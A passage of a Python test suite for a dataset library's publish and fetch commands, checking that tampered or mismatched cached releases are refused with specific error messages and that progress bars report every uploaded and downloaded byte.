    said = [f"dataset_info.json: split {s!r} records {lock[s]['num_rows'] + 1} rows, its shards {lock[s]['num_rows']}"
            for s in info["splits"]]
    for s, digit in (("test", "2"), ("train", "1")):
        said += [f"dataset_info.json: split {s!r} has {lock[s]['num_rows'] + 1} rows, committed {lock[s]['num_rows']}",
                 f"dataset_info.json: split {s!r} has fingerprint {digit * 16}, committed {lock[s]['fingerprint'][:16]}"]
    assert len(said) == 6
    assert str(exc.value) == (
        f"The release of {FULL} in {world.cache_uri} is not what its output record {lock_file_of(world)} says "
        f"({'; '.join(said[:5])}); it was not used."
    )
    assert not b.prepared_dir.exists()


def forged_shard(world, transform, split: str = "train") -> tuple[dict, bytes]:
    """The release with the ``split`` shard replaced by ``transform(table)`` written again, its info updated to match."""
    store = open_store(world.cache_uri)
    data = release_json(world)
    info = json.loads(store.get_bytes(data["dataset_info"]))
    shard = info["splits"][split]["shards"][0]
    table = pq.read_table(io.BytesIO(store.get_bytes(shard["sha256"])))
    sink = io.BytesIO()
    pq.write_table(transform(table), sink, compression="gzip")  # other bytes in any case
    added = store.add_bytes(sink.getvalue())
    old = shard["sha256"]
    shard.update(sha256=added.oid, num_bytes=added.size)
    data["dataset_info"] = add_object(world, json.dumps(info).encode())
    data["files"] = [dict(f, oid=added.oid, size=added.size) if f["oid"] == old else f for f in data["files"]]
    rewrite_release(world, data)
    return shard, sink.getvalue()


def test_a_release_with_other_bytes_for_the_committed_rows_is_used(world):
    """Built with another pyarrow: other bytes, the same rows (content fingerprint) as the output record."""
    b = elsewhere(world)
    shard, raw = forged_shard(world, lambda t: t)
    path = fetch(b, b.require_pin_record(), progress=False)
    assert (path / shard["filename"]).read_bytes() == raw
    assert labdatasets.builder(NAME).as_dataset(split="train").to_arrow().num_rows == shard["num_rows"]


def test_a_release_with_other_rows_is_never_served(world):
    b = elsewhere(world)
    from labdatasets.processing.fingerprint import content_fingerprint

    shard, raw = forged_shard(world, lambda t: t.set_column(1, "value", pc.negate(t["value"])))
    forged = world.home / shard["filename"]
    forged.write_bytes(raw)
    with pytest.raises(SnapshotError) as exc:
        fetch(b, b.require_pin_record(), progress=False)
    committed = json.loads(lock_file_of(world).read_text())["splits"]["train"]["fingerprint"]
    assert str(exc.value) == (
        f"The release of {FULL} in {world.cache_uri} holds other rows in split 'train' than its output record "
        f"{lock_file_of(world)} says (fingerprint {content_fingerprint([forged])[:16]}, committed {committed[:16]}); "
        "it was not used."
    )
    assert not b.prepared_dir.exists()


def test_other_rows_in_one_split_are_found_after_another_split_with_other_bytes_for_the_same_rows(world):
    b = elsewhere(world)
    forged_shard(world, lambda t: t, split="test")  # checked first (splits in name order), and fine
    forged_shard(world, lambda t: t.set_column(1, "value", pc.negate(t["value"])), split="train")
    with pytest.raises(SnapshotError, match=r"holds other rows in split 'train' than its output record"):
        fetch(b, b.require_pin_record(), progress=False)
    assert not b.prepared_dir.exists()


def test_an_unreadable_forged_shard_is_refused_as_other_rows(world):
    b = elsewhere(world)
    forged_shard(world, lambda t: t)
    data = release_json(world)
    store = open_store(world.cache_uri)
    info = json.loads(store.get_bytes(data["dataset_info"]))
    garbage = b"PAR1" + b"\0" * 100 + b"PAR1"
    added = store.add_bytes(garbage)
    old = info["splits"]["train"]["shards"][0]["sha256"]
    info["splits"]["train"]["shards"][0].update(sha256=added.oid, num_bytes=added.size)
    data["dataset_info"] = add_object(world, json.dumps(info).encode())
    data["files"] = [dict(f, oid=added.oid, size=added.size) if f["oid"] == old else f for f in data["files"]]
    rewrite_release(world, data)
    with pytest.raises(SnapshotError) as exc:
        fetch(b, b.require_pin_record(), progress=False)
    committed = json.loads(lock_file_of(world).read_text())["splits"]["train"]["fingerprint"]
    assert str(exc.value).endswith(
        f"holds other rows in split 'train' than its output record {lock_file_of(world)} says (unreadable: "
        f"OSError, committed {committed[:16]}); it was not used."
    )


def test_fetch_if_published_falls_back_to_building_when_the_cache_cannot_be_used(world, caplog):
    b = elsewhere(world)
    record = b.require_pin_record()
    assert fetch_if_published(b, None, progress=False) is None
    data = release_json(world)
    data["files"] = data["files"][:1]
    rewrite_release(world, data)
    with caplog.at_level(logging.WARNING):
        assert fetch_if_published(b, record, progress=False) is None
    assert f"Could not use the shared cache for {FULL}" in caplog.text and "building it from the pins" in caplog.text


def test_fetch_if_published_downloads_when_it_can(world):
    good = files_of(world.builder().prepared_dir)
    b = elsewhere(world)
    assert fetch_if_published(b, b.require_pin_record(), progress=False) == b.prepared_dir
    assert files_of(b.prepared_dir) == good


# ----------------------------------------------------------------------------- what publish and fetch say and show
class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def on_terminal(monkeypatch) -> Terminal:
    """Progress bars are shown on a terminal unless switched off (LABDATASETS_PROGRESS unset)."""
    monkeypatch.delenv("LABDATASETS_PROGRESS")
    terminal = Terminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    return terminal


@pytest.mark.parametrize("progress", [True, False, None])
def test_publish_shows_every_uploaded_byte_on_a_terminal_unless_told_not_to(progress, world, tmp_path, monkeypatch):
    from tqdm import tqdm

    from labdatasets.present import progress as progress_module

    bars: list[tqdm] = []

    class Recorded(tqdm):  # the bars drawn, to read how far they got
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            bars.append(self)

    monkeypatch.setattr(progress_module, "_tqdm", lambda: Recorded)
    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{tmp_path / 'new-cache'}")
    b = world.builder()
    terminal = on_terminal(monkeypatch)
    result = publish(b) if progress is None else publish(b, progress=progress)
    shown = terminal.getvalue()
    if progress is False:
        assert f"publish {FULL}" not in shown and not bars
    else:  # the bar counts every byte of the shards and dataset_info.json
        assert f"publish {FULL}" in shown and f"/{tqdm.format_sizeof(result.uploaded_bytes, divisor=1024)} " in shown
        (bar,) = [bar for bar in bars if bar.desc == f"publish {FULL}"]
        assert bar.total == bar.n == result.uploaded_bytes


@pytest.mark.parametrize("progress", [True, False, None])
def test_fetch_if_published_shows_its_download_unless_told_not_to(progress, world, monkeypatch):
    b = elsewhere(world)
    terminal = on_terminal(monkeypatch)
    record = b.require_pin_record()
    got = fetch_if_published(b, record) if progress is None else fetch_if_published(b, record, progress=progress)
    assert got == b.prepared_dir
    shown = terminal.getvalue()
    assert (f"download {FULL}" in shown) is (progress is not False)
    stage = f"  download {FULL} from {world.cache_uri}"
    assert (f"{stage} ...\n" in shown and f"{stage}: done in " in shown) is (progress is not False)


def test_fetch_if_published_downloads_again_only_when_forced(world):
    world.use_cache()
    b = world.builder()
    record = b.require_pin_record()
    inode = world.shard().stat().st_ino
    assert fetch_if_published(b, record, progress=False) == b.prepared_dir
    assert world.shard().stat().st_ino == inode
    assert fetch_if_published(b, record, progress=False, force=True) == b.prepared_dir
    assert world.shard().stat().st_ino != inode


def test_fetch_if_published_logs_why_it_builds_instead(world, caplog):
    b = elsewhere(world)
    data = release_json(world)
    data["files"] = data["files"][:1]
    rewrite_release(world, data)
    with caplog.at_level(logging.WARNING):
        assert fetch_if_published(b, b.require_pin_record(), progress=False) is None
    (message,) = [r.getMessage() for r in caplog.records if "shared cache" in r.getMessage()]
    assert message.startswith(f"Could not use the shared cache for {FULL} (The release of {FULL} in ")
    assert message.endswith("lists other files than its output record " + str(world.home / "pins" / NAME / "1.0.0.lock.json")
                             + "; it was not used.); building it from the pins")


def test_publish_refuses_with_every_damaged_file_named(world, tmp_path, monkeypatch):
    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{tmp_path / 'new-cache'}")
    train, test = world.shard(), world.shard("test")
    flip(train, offset_of(train, "data_page"))
    test.unlink()
    with pytest.raises(PreparedDataError) as exc:
        publish(world.builder(), progress=False)
    assert (
        f"Prepared data of {FULL} in {world.builder().prepared_dir} is missing or damaged (prepared file {test.name}: "
        f"missing; prepared file {train.name}: corrupted); nothing was published. Run 'labdatasets verify --repair {FULL}' first."
    ) == str(exc.value)


def test_publish_refuses_other_rows_even_when_dataset_info_agrees_with_them(world, tmp_path, monkeypatch):
    """A shard rewritten with other rows and its sha256 and size put in dataset_info.json: the output record decides."""
    from labdatasets.stores.hashing import sha256_file

    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{tmp_path / 'new-cache'}")
    b = world.builder()
    shard = world.shard()
    table = pq.read_table(shard)
    os.chmod(shard, 0o644)
    pq.write_table(table.set_column(1, "value", pc.negate(table["value"])), shard)
    info_path = b.prepared_dir / "dataset_info.json"
    os.chmod(info_path, 0o644)
    data = json.loads(info_path.read_text())
    data["splits"]["train"]["shards"][0].update(sha256=sha256_file(shard), num_bytes=shard.stat().st_size)
    data["splits"]["train"]["num_bytes"] = shard.stat().st_size
    info_path.write_text(json.dumps(data, indent=2))
    with pytest.raises(PreparedDataError, match=r"split 'train': its rows have fingerprint .*nothing was published"):
        publish(world.builder(), progress=False)
    assert open_store(f"file://{tmp_path / 'new-cache'}").get_ref(REF) is None


def test_publish_refuses_a_build_of_processing_the_version_was_not_pinned_with(world, tmp_path, monkeypatch):
    """The builder's code changed after the pin and this folder was built with the new code: not this version."""
    from tests.prepared.world import write_prepared

    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{tmp_path / 'new-cache'}")
    record = world.builder().require_pin_record()
    world.edit_builder("def tidy(table):", "def tidy(table):  # edited after the pin")
    b = world.builder()
    shutil.rmtree(b.prepared_dir)
    write_prepared(b, record)
    now = type(b).code_fingerprint()
    with pytest.raises(PreparedDataError) as exc:
        publish(b, progress=False)
    assert str(exc.value) == (
        f"{FULL} here was built by processing code {now[:12]}, but the version was pinned with "
        f"{record.code_fingerprint[:12]}: its processing changed without a new VERSION, so it is not published. "
        "Run 'labdatasets check' to see which version to bump."
    )
    assert open_store(f"file://{tmp_path / 'new-cache'}").get_ref(REF) is None


def test_publish_refuses_when_the_processing_changes_during_the_publish(world, tmp_path, monkeypatch):
    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{tmp_path / 'new-cache'}")
    b = world.builder()
    built = b.prepared_info().code_fingerprint
    module = type(b).module_dir() / f"{NAME}_dataset_builder.py"
    build = b.build

    def build_then_edit(**kwargs):
        path = build(**kwargs)
        module.write_text(module.read_text() + "\n# edited while publishing\n")
        return path

    b.build = build_then_edit
    with pytest.raises(PreparedDataError) as exc:
        publish(b, progress=False)
    now = type(b).code_fingerprint()
    assert now != built
    assert str(exc.value) == (
        f"{FULL} here was built by processing code {built[:12]}, but this checkout builds it with {now[:12]}: its "
        f"processing changed since the build, so it is not published. Build it again ('labdatasets build {FULL}') "
        "and publish, or run 'labdatasets check' to see whether the version needs a bump."
    )
    assert open_store(f"file://{tmp_path / 'new-cache'}").get_ref(REF) is None


def test_publish_uses_the_build_options_it_is_given(world, tmp_path, monkeypatch):
    from labdatasets.processing.options import BuildOptions

    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{tmp_path / 'new-cache'}")
    b = world.builder()
    shutil.rmtree(b.prepared_dir)  # publish builds it first
    with pytest.raises(ConfigError, match="remote runner needs a place its workers can write to"):
        publish(b, BuildOptions.of({"runner": "DataflowRunner"}), progress=False)


def test_publishing_what_the_cache_already_holds_uploads_nothing(world, tmp_path, monkeypatch):
    cache = tmp_path / "new-cache"
    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{cache}")
    b = world.builder()
    store = open_store(f"file://{cache}")
    for path in sorted(b.prepared_dir.iterdir()):
        store.add_file(path)  # every object already there (another release of the same bytes), no release yet
    result = publish(b, progress=False)
    assert result.created and result.uploaded_bytes == 0
    assert repr(result).endswith(", 3 files, 0 bytes uploaded)")


def test_a_release_removed_while_publishing_is_an_error_that_changes_nothing(world, monkeypatch):
    """put_ref found a release there; by the time it is read, someone removed it."""
    from labdatasets.stores.local import LocalStore

    world.use_cache()
    monkeypatch.setattr(LocalStore, "get_ref", lambda self, name: None)
    with pytest.raises(PreparedDataError) as exc:
        publish(world.builder(), progress=False)
    assert str(exc.value) == (
        f"The release of {FULL} in {world.cache_uri} was removed while this one was being published; nothing was "
        "changed. Publish again."
    )


def test_publish_names_every_split_that_differs_from_the_published_release(world):
    world.use_cache()
    data = release_json(world)
    data["fingerprints"]["validation"] = "2" * 64
    data["fingerprints"]["train"] = "3" * 64
    rewrite_release(world, data)
    with pytest.raises(PreparedDataError, match=r"\(splits train, validation differ, or its snapshot or processing\)"):
        publish(world.builder(), progress=False)


def test_fetch_counts_every_downloaded_byte_on_a_terminal(world, monkeypatch):
    from tqdm import tqdm

    from labdatasets.present import progress as progress_module

    bars: list[tqdm] = []

    class Recorded(tqdm):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            bars.append(self)

    b = elsewhere(world)
    monkeypatch.setattr(progress_module, "_tqdm", lambda: Recorded)
    on_terminal(monkeypatch)
    fetch(b, b.require_pin_record())
    release = published(b)
    (bar,) = [bar for bar in bars if bar.desc == f"download {FULL}"]
    assert bar.total == bar.n == release.num_bytes


def test_publish_of_a_version_pinned_before_processing_fingerprints_says_so(world, tmp_path, monkeypatch):
    """An old pin record names no processing fingerprint: '?' stands for it, and nothing is published."""
    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{tmp_path / 'new-cache'}")
    b = world.builder()
    world.pin_without_processing_fingerprint()
    built = b.prepared_info().code_fingerprint
    with pytest.raises(PreparedDataError) as exc:
        publish(world.builder(), progress=False)
    assert str(exc.value).startswith(
        f"{FULL} here was built by processing code {built[:12]}, but the version was pinned with ?: its processing"
    )


def test_publish_builds_as_quietly_as_it_was_asked(world, tmp_path, monkeypatch):
    """The build step that publish runs first gets the same progress choice (and options)."""
    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{tmp_path / 'new-cache'}")
    b = world.builder()
    build, calls = b.build, []

    def recorded_build(**kwargs):
        calls.append(kwargs)
        return build(**kwargs)

    b.build = recorded_build
    publish(b, progress=False)
    assert calls == [{"options": None, "progress": False}]


def without_processing_in_info(world) -> None:
    """Edit the prepared dataset_info.json as one written before processing fingerprints (``code_fingerprint`` null)."""
    path = world.builder().prepared_dir / "dataset_info.json"
    os.chmod(path, 0o644)
    data = json.loads(path.read_text())
    data["code_fingerprint"] = None
    path.write_text(json.dumps(data, indent=2))


def test_publish_refuses_a_folder_prepared_before_processing_fingerprints(world, tmp_path, monkeypatch):
    """A folder that names no processing is reused by a build, but cannot be published as the pinned processing's."""
    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{tmp_path / 'new-cache'}")
    without_processing_in_info(world)
    record = world.builder().require_pin_record()
    with pytest.raises(PreparedDataError) as exc:
        publish(world.builder(), progress=False)
    assert str(exc.value).startswith(
        f"{FULL} here was built by processing code ?, but the version was pinned with {record.code_fingerprint[:12]}: "
    )
    assert open_store(f"file://{tmp_path / 'new-cache'}").get_ref(REF) is None


def test_publish_refuses_a_version_whose_pin_and_folder_both_predate_processing_fingerprints(world, tmp_path, monkeypatch):
    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{tmp_path / 'new-cache'}")
    world.pin_without_processing_fingerprint()
    without_processing_in_info(world)
    b = world.builder()
    with pytest.raises(PreparedDataError) as exc:
        publish(b, progress=False)
    assert str(exc.value).startswith(
        f"{FULL} here was built by processing code ?, but this checkout builds it with {type(b).code_fingerprint()[:12]}: "
    )
    assert open_store(f"file://{tmp_path / 'new-cache'}").get_ref(REF) is None


def test_publish_leaves_a_committed_output_record_as_it_is(world, tmp_path, monkeypatch):
    """Even one from before split statistics: publishing never edits a committed file (``labdatasets lock`` does)."""
    from labdatasets.stores.hashing import sha256_json

    lock = lock_file_of(world)
    os.chmod(lock, 0o644)
    data = json.loads(lock.read_text())
    for split in data["splits"].values():
        split.pop("statistics", None)
    assert "digest" in data
    data["digest"] = sha256_json({k: v for k, v in data.items() if k != "digest"})
    lock.write_text(json.dumps(data, indent=2))
    before = lock.read_bytes()
    info_path = world.builder().prepared_dir / "dataset_info.json"  # a build of today records statistics
    os.chmod(info_path, 0o644)
    info = json.loads(info_path.read_text())
    for split in info["splits"].values():
        split["statistics"] = {"num_rows": split["num_rows"], "columns": {}}
    info_path.write_text(json.dumps(info, indent=2))
    world.use_cache()
    assert not publish(world.builder(), progress=False).created  # already published
    assert lock.read_bytes() == before
    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{tmp_path / 'new-cache'}")
    assert publish(world.builder(), progress=False).created
    assert lock.read_bytes() == before


def test_publish_records_the_config_of_a_configured_version(world, make_builder, tmp_path, monkeypatch):
    from labdatasets.pinning.outputs import write_output_record
    from tests.prepared.world import write_prepared

    make_builder.tabular(
        "toy_cfg_pub",
        edits={'    VERSION = ': '    BUILDER_CONFIGS = [lds.BuilderConfig("small")]\n    VERSION = '},
    )
    b = labdatasets.builder("toy_cfg_pub/small:1.0.0")
    record = b.pin(progress=False)
    write_output_record(b, write_prepared(b, record), record)
    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{tmp_path / 'new-cache'}")
    result = publish(labdatasets.builder("toy_cfg_pub/small:1.0.0"), progress=False)
    assert result.created and result.release.config == "small" and result.release.full_name == "toy_cfg_pub/small:1.0.0"
    assert published(labdatasets.builder("toy_cfg_pub/small:1.0.0")) == result.release
